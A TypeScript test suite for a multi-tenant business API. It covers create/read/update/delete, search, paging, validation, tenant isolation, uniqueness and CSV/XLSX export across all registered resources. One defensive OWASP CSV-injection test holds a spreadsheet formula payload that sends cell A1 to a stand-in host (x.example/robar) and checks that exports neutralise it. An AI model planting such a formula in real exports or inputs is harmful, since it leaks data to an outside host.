import {
  type FieldDef,
  isTenantResource,
  RESOURCES,
  type ResourceDef,
  resourceNamed,
} from '@erario/contracts';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  agreeingRefs,
  createSample,
  prepareSample,
  sampleInput,
  sampleRef,
  systemAuth,
} from '../../test/resource-samples.ts';
import { testSuite } from '../../test/suite.ts';

/**
 * One suite over the whole registry: a master declared later is tested here without a line of its own.
 * Everything goes through HTTP as the seeded SA of the first demo client.
 */
const t = testSuite();
let otherClient: number;

beforeAll(async () => {
  otherClient = t.clients[1];
});

const base = (def: ResourceDef) => `/api/${def.service}/${def.path}`;
const { call } = t.api;

/** A valid create body through the API, with the rows it refers to made first. */
async function body(def: ResourceDef, n: number): Promise<Record<string, unknown>> {
  const input = sampleInput(def, 9000 + n);
  for (const fd of def.fields) {
    if (fd.kind === 'ref') input[fd.name] = await sampleRef(t.db, systemAuth(t.clients[0]), def, fd);
    if (fd.kind === 'enum') {
      // Take a choice no row holds yet, in case the field is unique.
      const used = await t.db.execute<{ v: string }>(
        sql`select ${sql.identifier(fd.column)}::text as v from ${sql.identifier(def.table)}`,
      );
      const taken = new Set(used.rows.map((r) => r.v));
      input[fd.name] = fd.options?.find((o) => !taken.has(o.value))?.value ?? input[fd.name];
    }
  }
  await prepareSample(t.db, t.clients[0], def, input);
  return agreeingRefs(t.db, def, input);
}

describe.each(RESOURCES.map((def) => [def.name, def] as const))('%s', (_name, def) => {
  const tenant = isTenantResource(def);
  // What a person types into the list's search: any of these finds the row (one search column holds them all).
  const searchFields = def.fields.filter(
    (fd) => fd.search && (fd.kind === 'text' || fd.kind === 'integer' || fd.kind === 'email'),
  );
  const findsBy = async (id: number, value: unknown) => {
    const term = String(value).slice(-6);
    const found = await call('GET', `${base(def)}/findAll?search=${encodeURIComponent(term)}`);
    expect(found.json().data.rows.map((r: { id: number }) => r.id)).toContain(id);
  };

  it('creates, finds by search, reads, updates with its version, and deletes', async () => {
    const input = await body(def, 1);
    const created = await call('POST', `${base(def)}/create`, input);
    expect(created.statusCode, created.body).toBe(200);
    const row = created.json().data;
    expect(row).toMatchObject({ id: expect.any(Number), version: 0 });
    if (tenant) {
      const stored = await t.db.execute<{ id_client: number }>(
        sql`select id_client from ${sql.identifier(def.table)} where id = ${row.id}`,
      );
      expect(stored.rows[0]?.id_client).toBe(t.clients[0]);
    }

    for (const fd of searchFields) {
      // An optional field the sample leaves empty (an employee's user) has nothing to search by.
      if (input[fd.name] !== null && input[fd.name] !== undefined && input[fd.name] !== '')
        await findsBy(row.id, input[fd.name]);
    }
    if (searchFields.length > 0) {
      const none = await call('GET', `${base(def)}/findAll?search=zzzz-no-existe`);
      expect(none.json().data.total).toBe(0);
    }

    const read = await call('GET', `${base(def)}/findById/${row.id}`);
    expect(read.json().data).toMatchObject({ id: row.id });

    // Every field changes but those fixed at creation, which keep their value.
    const kept = Object.fromEntries(
      def.fields.filter((fd) => fd.immutable).map((fd) => [fd.name, input[fd.name]]),
    );
    const changed: Record<string, unknown> = {
      ...input,
      ...(await body(def, 2)),
      ...kept,
      id: row.id,
      version: 0,
    };
    const updated = await call('PUT', `${base(def)}/update`, changed);
    expect(updated.statusCode, updated.body).toBe(200);
    expect(updated.json().data.version).toBe(1);
    // The search column follows the change: the row is found by its new value.
    if (searchFields[0] && changed[searchFields[0].name])
      await findsBy(row.id, changed[searchFields[0].name]);
    // The same stale version again: somebody else's change would be lost, so it is refused.
    const stale = await call('PUT', `${base(def)}/update`, changed);
    expect(stale.statusCode).toBe(409);

    const removed = await call('DELETE', `${base(def)}/deleteById/${row.id}`);
    expect(removed.statusCode, removed.body).toBe(200);
    expect((await call('GET', `${base(def)}/findById/${row.id}`)).statusCode).toBe(404);
    const audit = await t.db.execute<{ action: string }>(
      sql`select action from audit_log where entity = ${def.table} and entity_id = ${String(row.id)} order by id`,
    );
    expect(audit.rows.map((r) => r.action)).toEqual(['INSERT', 'UPDATE', 'DELETE']);
  });

  it('pages the list and reports the total', async () => {
    for (let i = 0; i < 3; i++) await createSample(t.db, systemAuth(t.clients[0]), def);
    const first = await call('GET', `${base(def)}/findAll?page=0&size=2`);
    const data = first.json().data;
    expect(data.rows).toHaveLength(2);
    expect(data.total).toBeGreaterThanOrEqual(3);
    const second = await call('GET', `${base(def)}/findAll?page=1&size=2`);
    expect(second.json().data.rows[0].id).not.toBe(data.rows[0].id);
  });

  it('refuses bad input with Spanish field messages and changes nothing', async () => {
    const before = await t.db.execute<{ n: number }>(
      sql`select count(*)::int as n from ${sql.identifier(def.table)}`,
    );
    const res = await call('POST', `${base(def)}/create`, {});
    expect(res.statusCode).toBe(400);
    const required = def.fields.filter((fd) => fd.required).map((fd) => fd.name);
    const fields = res.json().fields.map((x: { field: string }) => x.field);
    for (const name of required) expect(fields).toContain(name);
    const after = await t.db.execute<{ n: number }>(
      sql`select count(*)::int as n from ${sql.identifier(def.table)}`,
    );
    expect(after.rows[0]?.n).toBe(before.rows[0]?.n);
  });

  it('exports the current list as CSV and XLSX', async () => {
    const csv = await call('GET', `${base(def)}/export?format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const header = csv.body.replace(/^\uFEFF/, '').split('\r\n')[0];
    expect(header).toBe(def.fields.map((fd) => fd.label).join(';'));
    const xlsx = await call('GET', `${base(def)}/export?format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet?.getRow(1).getCell(1).value).toBe(def.fields[0]?.label);
    expect(sheet?.rowCount).toBeGreaterThan(1);
  });
});

describe.each(
  RESOURCES.filter((def) => def.fields.some((fd) => fd.immutable)).map((def) => [def.name, def] as const),
)('%s fixed fields', (_name, def) => {
  it('refuses to change a field fixed at creation, naming it, and changes nothing', async () => {
    // A code space as small as the groups' two digits may hold the first sample already: take the next.
    let input = await body(def, 4);
    let created = await call('POST', `${base(def)}/create`, input);
    for (let n = 5; created.statusCode === 409 && n < 40; n++) {
      input = await body(def, n);
      created = await call('POST', `${base(def)}/create`, input);
    }
    const row = created.json().data;
    const fixed = def.fields.filter((fd) => fd.immutable);
    const moved: Record<string, unknown> = {};
    // Another sample value than the row's: in a code space as small as two digits, a far sample
    // can wrap round to the very code the row took.
    const otherSample = (name: string) => {
      for (let n = 9100; n < 9400; n++)
        if (sampleInput(def, n)[name] !== input[name]) return sampleInput(def, n)[name];
      throw new Error(`Las muestras de ${def.name}.${name} no cambian`);
    };
    for (const fd of fixed) {
      // A reference moves to another row of its master, a choice to another choice; any other field
      // to another sample value.
      moved[fd.name] =
        fd.kind === 'ref'
          ? (await createSample(t.db, systemAuth(t.clients[0]), resourceNamed(fd.ref?.resource ?? ''))).id
          : fd.kind === 'enum'
            ? fd.options?.find((o) => o.value !== input[fd.name])?.value
            : otherSample(fd.name);
    }
    const res = await call('PUT', `${base(def)}/update`, { ...input, ...moved, id: row.id, version: 0 });
    expect(res.statusCode).toBe(400);
    expect(res.json().fields.map((x: { field: string }) => x.field)).toEqual(fixed.map((fd) => fd.name));
    const read = (await call('GET', `${base(def)}/findById/${row.id}`)).json().data;
    expect(read).toMatchObject({
      version: 0,
      ...Object.fromEntries(fixed.map((fd) => [fd.name, row[fd.name]])),
    });
  });
});

describe.each(RESOURCES.filter((def) => def.uniques.length > 0).map((def) => [def.name, def] as const))(
  '%s uniqueness',
  (_name, def) => {
    it('answers 409 with the declared message for a duplicate', async () => {
      // A row that went in (the sample retries values already taken), then the same values again.
      const {
        id: _id,
        version: _version,
        ...input
      } = await createSample(t.db, systemAuth(t.clients[0]), def);
      const again = await call('POST', `${base(def)}/create`, input);
      expect(again.statusCode).toBe(409);
      expect(again.json().message).toBe(def.uniques[0]?.message);
    });
  },
);

describe.each(RESOURCES.filter(isTenantResource).map((def) => [def.name, def] as const))(
  '%s tenancy',
  (_name, def) => {
    it("keeps another client's rows out of reach, even by id in the body", async () => {
      const theirs = await createSample(t.db, systemAuth(otherClient), def);
      const list = await call('GET', `${base(def)}/findAll?size=500`);
      expect(list.json().data.rows.map((r: { id: number }) => r.id)).not.toContain(theirs.id);
      expect((await call('GET', `${base(def)}/findById/${theirs.id}`)).statusCode).toBe(404);
      const update = await call('PUT', `${base(def)}/update`, {
        ...(await body(def, 4)),
        id: theirs.id,
        version: 0,
      });
      expect(update.statusCode).toBe(404);
      expect((await call('DELETE', `${base(def)}/deleteById/${theirs.id}`)).statusCode).toBe(404);
      const still = await t.db.execute(
        sql`select 1 from ${sql.identifier(def.table)} where id = ${Number(theirs.id)}`,
      );
      expect(still.rows).toHaveLength(1);
    });
  },
);

describe('refused delete of a used row', () => {
  // An owned row (a level's dated premiums) goes with the row it belongs to: that is no refusal.
  const refersTo = (fd: FieldDef, def: ResourceDef) => fd.ref?.resource === def.name && !fd.ref.owned;
  const used = RESOURCES.filter((def) =>
    RESOURCES.some((other) => other.fields.some((fd) => refersTo(fd, def))),
  );

  it.each(used.map((def) => [def.name, def] as const))(
    '%s in use is kept, with a message naming what uses it',
    async (_n, def) => {
      const referrer = RESOURCES.find((other) => other.fields.some((fd) => refersTo(fd, def))) as ResourceDef;
      const field = referrer.fields.find((fd) => refersTo(fd, def));
      const target = await createSample(t.db, systemAuth(t.clients[0]), def);
      await createSample(t.db, systemAuth(t.clients[0]), referrer, { [field?.name ?? '']: target.id });
      const res = await call('DELETE', `${base(def)}/deleteById/${target.id}`);
      expect(res.statusCode).toBe(409);
      expect(res.json().message).toMatch(
        new RegExp(`^No se puede eliminar .*: lo usan 1 ${referrer.labels.plural}`),
      );
      expect((await call('GET', `${base(def)}/findById/${target.id}`)).statusCode).toBe(200);
    },
  );
});

describe('bank accounts (spec: listed by client, only accounts whose bank belongs to it)', () => {
  it('refuses a bank of another client, and lists accounts by client and by bank', async () => {
    const bankDef = resourceNamed('bank');
    const accountDef = resourceNamed('bankAccount');
    const mine = await createSample(t.db, systemAuth(t.clients[0]), bankDef);
    const theirs = await createSample(t.db, systemAuth(otherClient), bankDef);
    const input = await body(accountDef, 5);
    const refused = await call('POST', `${base(accountDef)}/create`, { ...input, idBank: theirs.id });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().fields).toEqual([
      { field: 'idBank', message: 'Banco no existe en esta institución' },
    ]);
    const created = await call('POST', `${base(accountDef)}/create`, { ...input, idBank: mine.id });
    const account = created.json().data;
    expect(account.idBankLabel).toBe(mine.name);
    const byClient = await call('GET', `${base(accountDef)}/findByIdClient/${t.clients[0]}?size=500`);
    expect(byClient.json().data.rows.map((r: { id: number }) => r.id)).toContain(account.id);
    const byBank = await call('GET', `${base(accountDef)}/findByIdBank/${mine.id}`);
    expect(byBank.json().data.rows.map((r: { id: number }) => r.id)).toEqual([account.id]);
    expect((await call('GET', `${base(accountDef)}/findByIdBank/${theirs.id}`)).statusCode).toBe(404);
  });
});

describe('exports a spreadsheet opens (OWASP: CSV injection)', () => {
  it('writes a name typed as a formula as text, in CSV and in XLSX', async () => {
    const def = resourceNamed('beneficiary');
    const formula = '=HYPERLINK("http://x.example/robar?d="&A1,"Ver factura")';
    const created = await call('POST', `${base(def)}/create`, {
      code: 'J-30999888-1',
      name: formula,
      active: true,
    });
    expect(created.statusCode).toBe(200);
    const csv = await call('GET', `${base(def)}/export?format=csv`);
    const line = csv.body.split('\r\n').find((l) => l.startsWith('J-30999888-1;'));
    expect(line).toContain(`;"'${formula.replaceAll('"', '""')}";`);
    const xlsx = await call('GET', `${base(def)}/export?format=xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const values: unknown[] = [];
    book.worksheets[0]?.eachRow((row) => values.push(row.getCell(2).value));
    // A plain string cell (a formula would be an object with `formula`).
    expect(values).toContain(formula);
  });
});

describe('a searched list', () => {
  it('counts every match on each page, past the last one too', async () => {
    const def = resourceNamed('generalParameter');
    for (const n of [1, 2, 3])
      await createSample(t.db, systemAuth(t.clients[0]), def, {
        code: `BUSCADO_${n}`,
        description: `Buscado ${n}`,
      });
    const page = async (n: number) =>
      (await call('GET', `${base(def)}/findAll?search=buscado_&size=2&page=${n}`)).json().data;
    expect(await page(0)).toMatchObject({ total: 3, rows: [{ code: 'BUSCADO_1' }, { code: 'BUSCADO_2' }] });
    expect(await page(1)).toMatchObject({ total: 3, rows: [{ code: 'BUSCADO_3' }] });
    expect(await page(4)).toMatchObject({ total: 3, rows: [] });
    // The count is not a column of the rows.
    expect(Object.keys((await page(0)).rows[0])).not.toContain('__total');
  });
});
